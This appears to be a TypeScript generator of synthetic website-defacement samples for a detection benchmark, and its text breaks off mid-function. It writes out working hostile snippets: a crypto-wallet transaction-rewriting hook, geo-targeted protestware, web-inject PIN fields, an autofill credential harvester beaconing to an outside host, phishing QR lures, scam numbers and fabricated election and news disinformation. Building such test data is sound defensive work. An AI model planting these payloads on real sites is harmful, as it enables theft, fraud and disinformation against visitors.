/**
 * Fresh6 defacement classes: written after round 7, by someone who does not
 * read the engines, from public descriptions of real defacements, web
 * skimmers and loaders, supply-chain compromises, SEO spam, phishing and
 * scam lures, hacktivist and disinformation campaigns, and OWASP-style
 * content injection. Each differs from every class in defacements.ts,
 * fresh-defacements.ts, fresh2-defacements.ts, fresh3-defacements.ts,
 * fresh4-defacements.ts and fresh5-defacements.ts (not a re-wording of one)
 * and varies its templates, languages and writing systems, domains,
 * positions and sizes like them. Several change only attributes, head tags
 * or CSS, or touch one part of the page (one form, the links, the title).
 * The writer had no internet access: every source below is recalled from
 * memory, with its outlet and an approximate date, and its comment says so.
 * Scored in the `fresh6` group, never tuned on.
 */
import { Buffer } from "node:buffer"
import { type ChangeClass, attrTargets, bottom, cap, head, resolve, say, scriptSpot, setAttr, shown, siteOr, top } from "./classes.js"
import type { Page } from "./corpus.js"
import { b64, jsUrl, links, scriptTag } from "./defacements.js"
import { type Change, type Splice, anySlot, esc, insert, replace, slotAt, splices } from "./edit.js"
import { type Lang, someDate, swapPhone } from "./locales.js"
import type { El } from "./locate.js"
import { type Rng, alnum, bech32, between, chance, digits, hex, pick, sample } from "./rng.js"
import { brandLookalike, libLookalike, nick, randomDomain, slug, team } from "./words.js"

const fresh6 = (name: string, make: (page: Page, rng: Rng) => Change): ChangeClass => ({ name, kind: "defacement", group: "fresh6", make })

const zIndex = (rng: Rng) => between(rng, 9999, 2147483647)
const wrapScript = (rng: Rng, code: string) => `<script>${chance(rng, 0.3) ? `eval(atob("${b64(code)}"))` : code}</script>`
const ipv4 = (rng: Rng) => `${between(rng, 11, 223)}.${between(rng, 0, 255)}.${between(rng, 0, 255)}.${between(rng, 1, 254)}`
const brandName = (page: Page) => cap(page.site.brand.replace(/-/g, " "))
const bare = (host: string) => host.replace(/^www\./, "")
/** Just after the head's open tag (where an import map must come), else the end of the head. */
const headStart = (page: Page): number => page.spots.elements.find((e) => e.name === "head" && !e.inert)?.openEnd ?? head(page)
/** A base64 string of `bytes` random bytes. */
const rb64 = (rng: Rng, bytes: number) => Buffer.from(hex(rng, bytes * 2), "hex").toString("base64")
/** Descendants of `el` (document order: later index, starting before its close tag). */
const inside = (page: Page, el: El, f: (e: El) => boolean): Array<El> => {
  const end = el.closeTag?.start ?? el.openEnd
  return page.spots.elements.filter((e) => e.index > el.index && e.start < end && f(e))
}
const forms = (page: Page) => page.spots.elements.filter((e) => e.name === "form" && e.shown && !e.inert && e.closeTag !== null)

const ruZones = "Europe\\/(Moscow|Minsk|Kaliningrad|Samara|Volgograd|Kirov|Astrakhan|Saratov|Ulyanovsk|Simferopol)|Asia\\/(Yekaterinburg|Omsk|Novosibirsk|Barnaul|Tomsk|Krasnoyarsk|Irkutsk|Chita|Yakutsk|Vladivostok|Magadan|Sakhalin|Kamchatka|Anadyr)"
const peaceMessages = [
  "Граждане России! Ваше правительство ведёт войну против Украины и скрывает от вас правду. Тысячи российских солдат уже погибли. Остановите войну!",
  "Мы, авторы этой библиотеки, против войны. Если вы видите это сообщение, узнайте правду о войне в Украине из независимых источников.",
  "Беларусы! Не дазваляйце ўцягнуць сябе ў вайну супраць Украіны. Мы побач з вамі.",
  "Stand with Ukraine. Citizens of Russia: your government is lying to you about this war. Ask questions, look for the truth."
]

// Protestware in open-source packages, recalled from memory of Snyk, BleepingComputer and Checkmarx reports (March 2022): maintainers of node-ipc, es5-ext and event-source-polyfill added code that acted only for users in Russian or Belarusian time zones or locales; event-source-polyfill, bundled into websites, showed visitors an anti-war message and sent them to another page after a delay. Here the code the site's bundle now carries, with a library banner.
const protestware = fresh6("anti-war message shown only to visitors in Russian or Belarusian time zones (protestware)", (page, rng) => {
  const msg = JSON.stringify(pick(rng, peaceMessages))
  const away = JSON.stringify(pick(rng, ["https://www.bbc.com/russian", "https://meduza.io/", "https://www.change.org/p/" + slug(pick(rng, ["stop the war", "net voyne", "peace now"])), `https://${randomDomain(rng)}/${pick(rng, ["truth", "pravda", "news"])}`]))
  const act = pick(rng, [
    `setTimeout(function(){alert(${msg})},${between(rng, 2000, 15000)});`,
    `var d=document.createElement("div");d.style.cssText="position:fixed;inset:0;z-index:${zIndex(rng)};background:#0057b7;color:#ffd700;font:22px/1.5 sans-serif;padding:12vh 10vw;text-align:center";d.textContent=${msg};(document.body||document.documentElement).appendChild(d);`,
    `alert(${msg});setTimeout(function(){location.href=${away}},${between(rng, 5000, 20000)});`
  ])
  const lib = pick(rng, ["event-source-polyfill", "es5-ext", "ui-kit", "peace-notice", "vendor"])
  const code = `${chance(rng, 0.6) ? `/*! ${lib} v${between(rng, 0, 4)}.${between(rng, 0, 12)}.${between(rng, 0, 40)} */` : ""}(function(){try{var z=Intl.DateTimeFormat().resolvedOptions().timeZone||"",l=(navigator.language||"").toLowerCase();if(/^(${ruZones})$/.test(z)||/^(ru|be)(-|$)/.test(l)){${act}}}catch(e){}})();`
  return splices(insert(pick(rng, [head(page), head(page), bottom(page)]), `<script>${code}</script>`))
})

// The npm compromise of chalk, debug and some sixteen other packages of one maintainer, phished in September 2025, recalled from memory of Aikido, Socket and Wiz write-ups: the code shipped to browsers hooked window.ethereum (and fetch and XMLHttpRequest responses) and rewrote crypto addresses and transaction recipients to the attackers' nearest-looking address (by Levenshtein distance). Here the hook as it lands in a site's bundle or a vendor chunk.
const walletTxRewrite = fresh6("script rewriting the recipient of browser-wallet transactions (npm package compromise)", (page, rng) => {
  const eth = Array.from({ length: between(rng, 3, 8) }, () => `"0x${hex(rng, 40)}"`).join(",")
  const btc = Array.from({ length: between(rng, 2, 5) }, () => `"bc1q${bech32(rng, 38)}"`).join(",")
  const lev = `function L(a,b){var d=[],i,j;for(i=0;i<=a.length;i++)d[i]=[i];for(j=0;j<=b.length;j++)d[0][j]=j;for(i=1;i<=a.length;i++)for(j=1;j<=b.length;j++)d[i][j]=Math.min(d[i-1][j]+1,d[i][j-1]+1,d[i-1][j-1]+(a[i-1]==b[j-1]?0:1));return d[a.length][b.length]}function N(x,l){var m=l[0],n=1e9;l.forEach(function(c){var k=L(x.toLowerCase(),c.toLowerCase());if(k<n){n=k;m=c}});return m}`
  const hookWallet = `function H(){var e=window.ethereum;if(!e||e.__x)return;var r=e.request.bind(e);e.request=function(a){try{if(a&&/eth_sendTransaction|eth_signTransaction/.test(a.method)&&a.params&&a.params[0]&&a.params[0].to)a.params[0].to=N(a.params[0].to,E)}catch(_){}return r(a)};e.__x=1}H();setInterval(H,${between(rng, 300, 2000)});`
  const hookFetch = `var F=window.fetch;window.fetch=function(){return F.apply(this,arguments).then(function(s){var c=s.clone();return c.text().then(function(t){var u=t.replace(/0x[a-fA-F0-9]{40}/g,function(m){return N(m,E)}).replace(/bc1q[0-9a-z]{38}/g,function(m){return N(m,B)});return new Response(u,{status:s.status,statusText:s.statusText,headers:s.headers})})})};`
  const body = `var E=[${eth}],B=[${btc}];${lev}${pick(rng, [hookWallet, hookFetch, hookWallet + hookFetch])}`
  const code = pick(rng, [
    `(function(){${body}})();`,
    `(self.webpackChunk_N_E=self.webpackChunk_N_E||[]).push([[${between(rng, 100, 9999)}],{${between(rng, 10000, 99999)}:function(){${body}}}]);`,
    `/*! ${pick(rng, ["debug", "chalk", "color-convert", "ansi-styles", "supports-color"])} */!function(){${body}}();`
  ])
  return splices(insert(pick(rng, [head(page), head(page), bottom(page), top(page)]), `<script>${code}</script>`))
})

const linkWords: Record<Lang, (app: string) => readonly [string, string, string]> = {
  en: (a) => [`Join our community on ${a}`, "Get news first and chat with our team: scan the code with your phone to join the group.", `In ${a}: Settings › Linked devices › Link a device, then scan.`],
  fr: (a) => [`Rejoignez notre communauté sur ${a}`, "Recevez nos infos en avant-première et échangez avec l'équipe : scannez le code avec votre téléphone pour rejoindre le groupe.", `Dans ${a} : Réglages › Appareils liés › Lier un appareil, puis scannez.`],
  de: (a) => [`Treten Sie unserer Community auf ${a} bei`, "Erhalten Sie Neuigkeiten zuerst und chatten Sie mit unserem Team: Scannen Sie den Code mit Ihrem Handy, um der Gruppe beizutreten.", `In ${a}: Einstellungen › Gekoppelte Geräte › Gerät koppeln, dann scannen.`],
  es: (a) => [`Únete a nuestra comunidad en ${a}`, "Recibe las novedades antes que nadie y habla con el equipo: escanea el código con tu móvil para unirte al grupo.", `En ${a}: Ajustes › Dispositivos vinculados › Vincular un dispositivo y escanea.`],
  nl: (a) => [`Word lid van onze community op ${a}`, "Ontvang nieuws als eerste en chat met ons team: scan de code met je telefoon om lid te worden van de groep.", `In ${a}: Instellingen › Gekoppelde apparaten › Apparaat koppelen en scan.`],
  pt: (a) => [`Entre na nossa comunidade no ${a}`, "Receba as novidades primeiro e fale com a equipe: escaneie o código com o celular para entrar no grupo.", `No ${a}: Configurações › Aparelhos conectados › Conectar um aparelho e escaneie.`],
  it: (a) => [`Unisciti alla nostra community su ${a}`, "Ricevi le notizie in anteprima e parla con il team: inquadra il codice con il telefono per entrare nel gruppo.", `In ${a}: Impostazioni › Dispositivi collegati › Collega un dispositivo, poi inquadra.`]
}

// Device-linking QR phishing, recalled from memory: Google Threat Intelligence Group (February 2025) on Russia-aligned actors luring Signal users with fake group invitations whose QR code was really Signal's "link a device" code, so the attackers' device received every message; Microsoft (January 2025) on Star Blizzard doing the same with WhatsApp's linked devices. Here the lure on a hacked site, in its language.
const deviceLinkQr = fresh6("'join our group' QR code that links the visitor's Signal or WhatsApp to the attacker's device", (page, rng) => {
  const app = pick(rng, ["Signal", "Signal", "WhatsApp"])
  const [h, p, how] = siteOr(rng, page, linkWords)(app)
  const data = app === "Signal" ? `sgnl://linkdevice?uuid=${alnum(rng, 22)}&pub_key=${encodeURIComponent(rb64(rng, 33))}` : `2@${rb64(rng, 48)},${rb64(rng, 32)},${rb64(rng, 32)},${rb64(rng, 32)}`
  const size = pick(rng, [180, 200, 240, 300])
  const qr = pick(rng, [
    `https://api.qrserver.com/v1/create-qr-code/?size=${size}x${size}&data=${encodeURIComponent(data)}`,
    `https://quickchart.io/qr?size=${size}&text=${encodeURIComponent(data)}`,
    `https://chart.googleapis.com/chart?cht=qr&chs=${size}x${size}&chl=${encodeURIComponent(data)}`
  ])
  const invite = app === "Signal" ? `https://${pick(rng, [`signal-group.${pick(rng, ["com", "net", "site", "online"])}`, `signal-${pick(rng, ["chat", "invite", "join"])}.${pick(rng, ["org", "app", "live"])}`, randomDomain(rng)])}/#${alnum(rng, 30)}` : `https://${pick(rng, [`whatsapp-${pick(rng, ["group", "invite", "join"])}.${pick(rng, ["com", "net", "site"])}`, randomDomain(rng)])}/${alnum(rng, 22)}`
  const block = pick(rng, [
    `<section class="${pick(rng, ["community", "join-us", "group-invite"])}" style="text-align:center;border:1px solid #ddd;padding:18px;margin:14px 0"><h3>${esc(h)}</h3><p>${esc(p)}</p><img src="${esc(qr)}" width="${size}" height="${size}" alt="${esc(app)} QR"><p><small>${esc(how)}</small></p>${chance(rng, 0.5) ? `<p><a href="${esc(invite)}">${esc(invite.replace(/^https:\/\//, "").slice(0, 40))}</a></p>` : ""}</section>`,
    `<div style="position:fixed;right:${between(rng, 10, 30)}px;bottom:${between(rng, 10, 30)}px;width:${size + 40}px;background:#fff;border-radius:10px;box-shadow:0 4px 24px rgba(0,0,0,.3);padding:16px;z-index:${zIndex(rng)};text-align:center"><b>${esc(h)}</b><br><img src="${esc(qr)}" width="${size}" height="${size}" alt=""><br><small>${esc(how)}</small></div>`
  ])
  return splices(insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), bottom(page), anySlot(rng, page.spots)]), block))
})

const resultsWords: Record<Lang, { readonly h: string; readonly cols: readonly [string, string, string]; readonly counted: (p: string) => string; readonly src: string; readonly lead: (n: string) => string; readonly names: ReadonlyArray<string> }> = {
  en: { h: "Preliminary results of the presidential election", cols: ["Candidate", "Votes", "Share"], counted: (p) => `Polling stations counted: ${p}%`, src: "Source: Central Election Commission", lead: (n) => `${n} wins in the first round`, names: ["Daniel Harper", "Margaret Collins", "Thomas Reed", "Helen Marsh", "Victor Kane", "Ruth Ellison"] },
  fr: { h: "Résultats provisoires de l'élection présidentielle", cols: ["Candidat", "Voix", "Part"], counted: (p) => `Bureaux de vote dépouillés : ${p} %`, src: "Source : Commission électorale centrale", lead: (n) => `${n} l'emporte dès le premier tour`, names: ["Jean-Marc Duval", "Sophie Lambert", "Pierre Morel", "Claire Fontaine", "Victor Garnier", "Anne Roussel"] },
  de: { h: "Vorläufiges Ergebnis der Präsidentschaftswahl", cols: ["Kandidat", "Stimmen", "Anteil"], counted: (p) => `Ausgezählte Wahllokale: ${p} %`, src: "Quelle: Zentrale Wahlkommission", lead: (n) => `${n} gewinnt im ersten Wahlgang`, names: ["Klaus Berger", "Sabine Krüger", "Martin Vogel", "Ulrike Brandt", "Stefan Roth", "Jana Hofmann"] },
  es: { h: "Resultados provisionales de las elecciones presidenciales", cols: ["Candidato", "Votos", "Porcentaje"], counted: (p) => `Mesas escrutadas: ${p} %`, src: "Fuente: Comisión Electoral Central", lead: (n) => `${n} gana en primera vuelta`, names: ["Javier Morales", "Lucía Herrera", "Andrés Castillo", "Marta Navarro", "Diego Ortega", "Carmen Vidal"] },
  nl: { h: "Voorlopige uitslag van de presidentsverkiezingen", cols: ["Kandidaat", "Stemmen", "Aandeel"], counted: (p) => `Getelde stembureaus: ${p}%`, src: "Bron: Centrale Kiescommissie", lead: (n) => `${n} wint in de eerste ronde`, names: ["Pieter de Vries", "Anouk Jansen", "Bram Visser", "Eva Smit", "Joost Bakker", "Lotte Mulder"] },
  pt: { h: "Resultados preliminares da eleição presidencial", cols: ["Candidato", "Votos", "Percentual"], counted: (p) => `Seções apuradas: ${p}%`, src: "Fonte: Comissão Eleitoral Central", lead: (n) => `${n} vence no primeiro turno`, names: ["Carlos Menezes", "Ana Paula Ribeiro", "Rodrigo Lacerda", "Fernanda Souto", "Marcelo Diniz", "Beatriz Lopes"] },
  it: { h: "Risultati provvisori delle elezioni presidenziali", cols: ["Candidato", "Voti", "Quota"], counted: (p) => `Sezioni scrutinate: ${p}%`, src: "Fonte: Commissione elettorale centrale", lead: (n) => `${n} vince al primo turno`, names: ["Marco Ferri", "Giulia Conti", "Luca Moretti", "Chiara Galli", "Paolo Rinaldi", "Elena Marchetti"] }
}

// Fabricated election results, recalled from memory: the May 2014 attack on Ukraine's Central Election Commission (Reuters and the Christian Science Monitor at the time; CyberBerkut claimed it), where software planted on the commission's site was found shortly before it would have shown a fringe candidate winning with about 37%, a figure Russian TV then reported. Here a results table with an implausible winner, in the site's language, sometimes in the title too.
const fakeResults = fresh6("fabricated election results table with an implausible winner", (page, rng) => {
  const w = say(page, resultsWords)
  const names = sample(rng, w.names, between(rng, 4, 5))
  const first = between(rng, 370, 520) / 10
  const weights = names.slice(1).map(() => 1 + rng() * 1.5).sort((a, b) => b - a)
  const sum = weights.reduce((a, b) => a + b, 0)
  const shares = [first, ...weights.map((x) => ((100 - first) * x) / sum)]
  const total = between(rng, 3_000_000, 18_000_000)
  const fmt = (n: number) => n.toLocaleString(page.site.locale.lang === "en" ? "en-US" : page.site.locale.lang === "fr" ? "fr-FR" : "de-DE")
  const rows = names.map((n, i) => `<tr><td>${esc(n)}</td><td>${fmt(Math.round((total * shares[i]!) / 100))}</td><td>${shares[i]!.toFixed(1)}%</td></tr>`).join("")
  const counted = w.counted(pick(rng, ["87.4", "95.1", "99.8", "100"]))
  const table = `<table${chance(rng, 0.5) ? ` class="results" border="1" cellpadding="6"` : ` class="table"`}><thead><tr><th>${w.cols[0]}</th><th>${w.cols[1]}</th><th>${w.cols[2]}</th></tr></thead><tbody>${rows}</tbody></table>`
  const block = pick(rng, [
    `<section class="${pick(rng, ["election-results", "results", "live-results"])}"><h2>${esc(w.h)}</h2><p><strong>${esc(w.lead(names[0]!))}</strong></p>${table}<p><small>${esc(counted)} · ${esc(w.src)}</small></p></section>`,
    `<div class="${pick(rng, ["breaking", "alert", "results-box"])}" style="border-left:6px solid #c00;padding:10px 16px;margin:12px 0"><h3>${esc(w.h)}</h3>${table}<p>${esc(counted)}</p></div>`
  ])
  const out: Array<Splice> = [insert(pick(rng, [top(page), slotAt(page.spots, "top"), slotAt(page.spots, "middle")]), block)]
  if (page.spots.title !== null && chance(rng, 0.35)) out.push(replace(page.spots.title, esc(`${w.lead(names[0]!)} — ${w.h}`)))
  return { splices: out }
})

const storyWords: Record<Lang, { readonly by: string; readonly stories: ReadonlyArray<readonly [string, string, string]> }> = {
  en: { by: "By", stories: [
    ["Hospital staff: allied soldiers brought the new infections", "Doctors at the regional hospital say most of this month's new infections were traced to soldiers of the allied battalion stationed near the city.", "“We were told to keep quiet,” a nurse who asked not to be named told our reporter. The defence ministry has not answered our questions."],
    ["Recording: minister admits border-security funds went to a relative's firm", "In a recording obtained by our newsroom, the minister can be heard saying that part of the money meant for border security was paid to a company owned by a relative.", "Opposition members are calling for an immediate inquiry. The minister's office did not respond to a request for comment."]
  ] },
  fr: { by: "Par", stories: [
    ["Personnel hospitalier : les soldats alliés ont apporté les nouvelles infections", "Selon des médecins de l'hôpital régional, la plupart des nouvelles infections de ce mois proviennent de soldats du bataillon allié stationné près de la ville.", "« On nous a demandé de nous taire », a confié à notre journaliste une infirmière qui a requis l'anonymat. Le ministère de la Défense n'a pas répondu à nos questions."],
    ["Enregistrement : le ministre reconnaît que des fonds pour les frontières sont allés à l'entreprise d'un proche", "Dans un enregistrement obtenu par notre rédaction, on entend le ministre dire qu'une partie de l'argent destiné à la sécurité des frontières a été versée à une société appartenant à un proche.", "L'opposition réclame une enquête immédiate. Le cabinet du ministre n'a pas répondu à notre demande de commentaire."]
  ] },
  de: { by: "Von", stories: [
    ["Klinikpersonal: Alliierte Soldaten haben die neuen Infektionen eingeschleppt", "Ärzte des Kreiskrankenhauses sagen, die meisten Neuinfektionen dieses Monats gingen auf Soldaten des in der Nähe stationierten alliierten Bataillons zurück.", "„Man hat uns gesagt, wir sollen schweigen“, sagte eine Pflegerin, die anonym bleiben möchte, unserem Reporter. Das Verteidigungsministerium hat unsere Fragen nicht beantwortet."],
    ["Mitschnitt: Minister räumt ein, dass Grenzschutz-Gelder an die Firma eines Verwandten flossen", "In einem Mitschnitt, der unserer Redaktion vorliegt, sagt der Minister, ein Teil des Geldes für den Grenzschutz sei an ein Unternehmen eines Verwandten gezahlt worden.", "Die Opposition fordert eine sofortige Untersuchung. Das Büro des Ministers ließ eine Anfrage unbeantwortet."]
  ] },
  es: { by: "Por", stories: [
    ["Personal sanitario: los soldados aliados trajeron los nuevos contagios", "Médicos del hospital regional afirman que la mayoría de los contagios de este mes se originaron en soldados del batallón aliado destacado cerca de la ciudad.", "«Nos dijeron que guardáramos silencio», contó a nuestro reportero una enfermera que pidió no ser identificada. El Ministerio de Defensa no ha respondido a nuestras preguntas."],
    ["Grabación: el ministro admite que fondos para la frontera fueron a la empresa de un familiar", "En una grabación obtenida por nuestra redacción, se oye al ministro decir que parte del dinero destinado a la seguridad fronteriza se pagó a una empresa propiedad de un familiar.", "La oposición exige una investigación inmediata. El gabinete del ministro no respondió a nuestra solicitud de comentarios."]
  ] },
  nl: { by: "Door", stories: [
    ["Ziekenhuispersoneel: geallieerde militairen brachten de nieuwe besmettingen", "Artsen van het regionale ziekenhuis zeggen dat de meeste nieuwe besmettingen van deze maand terug te voeren zijn op militairen van het geallieerde bataljon bij de stad.", "‘Ons werd gezegd onze mond te houden,’ vertelde een verpleegkundige die anoniem wil blijven aan onze verslaggever. Het ministerie van Defensie heeft onze vragen niet beantwoord."],
    ["Opname: minister geeft toe dat geld voor grensbewaking naar bedrijf van familielid ging", "Op een opname die onze redactie in handen heeft, zegt de minister dat een deel van het geld voor grensbewaking is betaald aan een bedrijf van een familielid.", "De oppositie eist een onmiddellijk onderzoek. Het kabinet van de minister reageerde niet op ons verzoek om commentaar."]
  ] },
  pt: { by: "Por", stories: [
    ["Equipe do hospital: soldados aliados trouxeram as novas infecções", "Médicos do hospital regional dizem que a maioria das novas infecções deste mês foi rastreada até soldados do batalhão aliado estacionado perto da cidade.", "“Mandaram a gente ficar calada”, disse ao nosso repórter uma enfermeira que pediu para não ser identificada. O Ministério da Defesa não respondeu às nossas perguntas."],
    ["Gravação: ministro admite que verba para a fronteira foi para empresa de parente", "Em uma gravação obtida pela nossa redação, o ministro diz que parte do dinheiro destinado à segurança da fronteira foi paga a uma empresa de um parente.", "A oposição pede uma investigação imediata. O gabinete do ministro não respondeu ao pedido de comentário."]
  ] },
  it: { by: "Di", stories: [
    ["Personale ospedaliero: i soldati alleati hanno portato i nuovi contagi", "Secondo i medici dell'ospedale regionale, la maggior parte dei nuovi contagi di questo mese è riconducibile ai soldati del battaglione alleato di stanza vicino alla città.", "«Ci hanno detto di tacere», ha raccontato al nostro cronista un'infermiera che ha chiesto l'anonimato. Il ministero della Difesa non ha risposto alle nostre domande."],
    ["Registrazione: il ministro ammette che i fondi per i confini sono andati all'azienda di un parente", "In una registrazione ottenuta dalla nostra redazione, si sente il ministro dire che parte del denaro destinato alla sicurezza dei confini è stato versato a una società di un parente.", "L'opposizione chiede un'inchiesta immediata. L'ufficio del ministro non ha risposto alla nostra richiesta di commento."]
  ] }
}

// Mandiant (FireEye), "Ghostwriter" (July 2020), recalled from memory: intruders published fabricated articles on compromised Lithuanian, Latvian and Polish news sites (NATO soldiers spreading COVID-19, invented quotes and leaks from officials), written in the outlet's language and style and added beside its real stories, then spread as links. Here a new article among the page's real ones, and a link to it at the top of the latest-posts list.
const plantedArticle = fresh6("fabricated news article planted among the real ones (Ghostwriter)", (page, rng) => {
  const w = say(page, storyWords)
  const [h, p1, p2] = pick(rng, w.stories)
  const path = `/${pick(rng, ["news", "articles", "politics", "world", "2026"])}/${slug(h).slice(0, 60)}${pick(rng, ["", ".html", "-" + digits(rng, 6)])}`
  const author = pick(rng, ["J. Kowalski", "A. Petrauskas", "M. Ozols", "S. Brandt", "L. Moreau", "D. Novak", "R. Silva"])
  const date = page.site.locale.date(someDate(rng))
  const article = pick(rng, [
    `<article class="${pick(rng, ["post", "article", "story"])}"><h2><a href="${path}">${esc(h)}</a></h2><p class="byline">${w.by} ${esc(author)} · ${esc(date)}</p><p>${esc(p1)}</p><p>${esc(p2)}</p></article>`,
    `<div class="${pick(rng, ["news-item", "entry", "teaser"])}"><h3>${esc(h)}</h3><p><em>${esc(date)}</em> — ${esc(p1)}</p><p>${esc(p2)} <a href="${path}">»</a></p></div>`
  ])
  const out: Array<Splice> = [insert(pick(rng, [slotAt(page.spots, "top"), slotAt(page.spots, "middle"), anySlot(rng, page.spots)]), article)]
  const aside = page.spots.elements.find((e) => e.name === "aside" && (e.attribs.class ?? "").includes("latest-posts"))
  const list = aside === undefined ? undefined : inside(page, aside, (e) => e.name === "ul")[0]
  if (list !== undefined && chance(rng, 0.7)) out.push(insert(list.openEnd, `<li><a href="${path}">${esc(h)}</a></li>`))
  return { splices: out }
})

const searchWords: Record<Lang, readonly [string, string]> = {
  en: ["Search results for", "Sorry, no results were found. Try different keywords."],
  fr: ["Résultats de recherche pour", "Désolé, aucun résultat. Essayez d'autres mots-clés."],
  de: ["Suchergebnisse für", "Leider keine Treffer. Versuchen Sie andere Suchbegriffe."],
  es: ["Resultados de búsqueda para", "Lo sentimos, no hay resultados. Pruebe con otras palabras."],
  nl: ["Zoekresultaten voor", "Helaas, geen resultaten gevonden. Probeer andere zoekwoorden."],
  pt: ["Resultados da pesquisa para", "Nenhum resultado encontrado. Tente outras palavras."],
  it: ["Risultati della ricerca per", "Nessun risultato trovato. Prova con altre parole."]
}

// Search-parameter injection, recalled from memory of Malwarebytes Labs (2025) and earlier reports of "internal search spam": scammers buy ads or post links to a real company's search page with a crafted query such as "PayPal support ☎ +1-8xx… call now", and the page reflects that text in its title and heading, so the scam number appears on the genuine site. Here the reflected query in the title and at the top of the page.
const reflectedSupport = fresh6("scam support number reflected from a crafted search query into the title and heading", (page, rng) => {
  const [resultsFor, none] = say(page, searchWords)
  const who = pick(rng, ["PayPal", "Coinbase", "Netflix", "Microsoft", "Apple", "Amazon", "Binance", "Norton", "QuickBooks", "Geek Squad", brandName(page)])
  const phone = pick(rng, [`+1-(${pick(rng, ["888", "877", "866", "855", "844", "833"])})-${digits(rng, 3)}-${digits(rng, 4)}`, `+1 ${pick(rng, ["888", "877", "866"])} ${digits(rng, 3)} ${digits(rng, 4)}`, `+44 ${pick(rng, ["800", "808"])} ${digits(rng, 3)} ${digits(rng, 4)}`])
  const q = `${who} ${pick(rng, ["customer support number", "help desk phone", "refund department", "24/7 helpline", "billing support"])} ☎ ${phone} ${pick(rng, ["call now", "toll free", "talk to a live person", "☎☎"])}`
  const shownQ = `“${esc(q)}”`
  const out: Array<Splice> = []
  const title = `${resultsFor} ${shownQ} – ${esc(brandName(page))}`
  out.push(page.spots.title === null ? insert(head(page), `<title>${title}</title>`) : replace(page.spots.title, title))
  out.push(insert(pick(rng, [top(page), slotAt(page.spots, "top")]), pick(rng, [
    `<div class="search-results"><h1>${resultsFor} ${shownQ}</h1><p>${none}</p></div>`,
    `<header class="page-header"><h1 class="page-title">${resultsFor}: <span>${esc(q)}</span></h1></header>`,
    `<form role="search" class="search"><input type="search" name="s" value="${esc(q)}"> <button type="submit">🔍</button></form><h2>${resultsFor} ${shownQ}</h2>`
  ])))
  return { splices: out }
})

const injectWords: Record<Lang, readonly [string, ReadonlyArray<string>]> = {
  en: ["For your security, please confirm your identity", ["Card number", "Expiry date", "Card PIN", "Mother's maiden name", "Date of birth", "Code received by SMS", "Memorable word"]],
  fr: ["Pour votre sécurité, veuillez confirmer votre identité", ["Numéro de carte", "Date d'expiration", "Code PIN de la carte", "Nom de jeune fille de votre mère", "Date de naissance", "Code reçu par SMS", "Mot mémorable"]],
  de: ["Zu Ihrer Sicherheit bestätigen Sie bitte Ihre Identität", ["Kartennummer", "Ablaufdatum", "Karten-PIN", "Geburtsname der Mutter", "Geburtsdatum", "Per SMS erhaltener Code", "Merkwort"]],
  es: ["Por su seguridad, confirme su identidad", ["Número de tarjeta", "Fecha de caducidad", "PIN de la tarjeta", "Apellido de soltera de su madre", "Fecha de nacimiento", "Código recibido por SMS", "Palabra clave"]],
  nl: ["Bevestig voor uw veiligheid uw identiteit", ["Kaartnummer", "Vervaldatum", "Pincode van uw pas", "Meisjesnaam van uw moeder", "Geboortedatum", "Code ontvangen per sms", "Geheugenwoord"]],
  pt: ["Para sua segurança, confirme sua identidade", ["Número do cartão", "Validade", "Senha do cartão", "Nome de solteira da mãe", "Data de nascimento", "Código recebido por SMS", "Palavra-chave"]],
  it: ["Per la tua sicurezza, conferma la tua identità", ["Numero della carta", "Scadenza", "PIN della carta", "Cognome da nubile della madre", "Data di nascita", "Codice ricevuto via SMS", "Parola segreta"]]
}

// Banking-trojan web injects, recalled from memory of Trusteer (IBM) and Kaspersky descriptions of Zeus and SpyEye configurations (2010–2014): the trojan inserted extra fields into the bank's real sign-in form (card PIN, mother's maiden name, the one-time code) with a line asking the customer to confirm their identity, so the request looked like the bank's own. Here the same fields added to a form of the page itself, before its submit button.
const webInjectFields = fresh6("extra PIN, one-time code or memorable-word fields added to an existing form (web inject)", (page, rng) => {
  const [intro, labels] = siteOr(rng, page, injectWords)
  const chosen = sample(rng, labels, between(rng, 2, 4))
  const fields = chosen.map((l, i) => `<label>${esc(l)} <input type="${/PIN|Senha|Pincode/i.test(l) ? "password" : "text"}" name="${pick(rng, ["f", "x", "sec", "v"])}${i}" autocomplete="off"${/PIN|Senha|Pincode/i.test(l) ? ` maxlength="${pick(rng, [4, 6])}" size="6"` : ""}></label>`)
  const block = pick(rng, [
    `<fieldset class="${pick(rng, ["security-check", "verify", "extra"])}"><legend>${esc(intro)}</legend>${fields.join("<br>")}</fieldset>`,
    `<div class="form-row"><p><strong>${esc(intro)}</strong></p>${fields.map((f) => `<p>${f}</p>`).join("")}</div>`
  ])
  const fs = forms(page)
  const withPassword = fs.filter((f) => inside(page, f, (e) => e.name === "input" && (e.attribs.type ?? "").toLowerCase() === "password").length > 0)
  const form = withPassword[0] ?? (fs.length > 0 ? pick(rng, fs) : undefined)
  if (form === undefined) return splices(insert(anySlot(rng, page.spots), `<form method="post" action="/login">${block}<button type="submit">OK</button></form>`))
  const submit = inside(page, form, (e) => !e.inert && ((e.name === "button" && (e.attribs.type ?? "submit").toLowerCase() === "submit") || (e.name === "input" && (e.attribs.type ?? "").toLowerCase() === "submit")))[0]
  return splices(insert(submit?.start ?? form.closeTag!.start, block))
})

// "No boundaries for user identities: web trackers exploit browser login managers", Acar, Englehardt and Narayanan (Princeton CITP, Freedom to Tinker, December 2017), recalled from memory: third-party scripts (Adthink, OnAudience) injected invisible login forms that browsers' password managers filled in, then read the e-mail (hashed) and sent it off; the same trick gets the saved password. Here an invisible form and the script reading it.
const autofillHarvest = fresh6("invisible login form that harvests credentials saved in the browser", (page, rng) => {
  const id = pick(rng, ["lf", "_u", "acc", alnum(rng, 5)])
  const host = pick(rng, [randomDomain(rng), libLookalike(rng)])
  const hide = pick(rng, ["position:absolute;left:-9999px;top:-9999px", "opacity:0;position:absolute;width:1px;height:1px;overflow:hidden", "position:fixed;bottom:0;left:0;opacity:0.01;width:2px;height:2px"])
  const form = `<form id="${id}" style="${hide}" aria-hidden="true"><input type="email" name="email" autocomplete="username"><input type="password" name="password" autocomplete="current-password"></form>`
  const send = pick(rng, [
    `crypto.subtle.digest("SHA-256",new TextEncoder().encode(u.toLowerCase())).then(function(b){var h=Array.from(new Uint8Array(b)).map(function(x){return("0"+x.toString(16)).slice(-2)}).join("");new Image().src=${jsUrl(rng, `https://${host}/${pick(rng, ["sync", "id", "px"])}`)}+"?h="+h})`,
